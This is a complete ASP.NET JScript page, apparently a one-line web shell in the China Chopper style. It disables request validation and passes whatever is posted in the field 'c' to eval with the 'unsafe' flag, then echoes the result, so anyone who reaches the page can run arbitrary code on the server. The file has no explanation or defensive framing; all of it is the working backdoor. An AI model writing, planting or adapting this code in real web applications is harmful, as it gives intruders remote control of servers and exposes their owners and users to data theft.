<%@ page language = "jscript" debug="false" validateRequest="false" %>
<%
  var cmd = Request.Form["c"];
  if (cmd != null) {
    Response.Write(eval(cmd, "unsafe"));
  }
%>
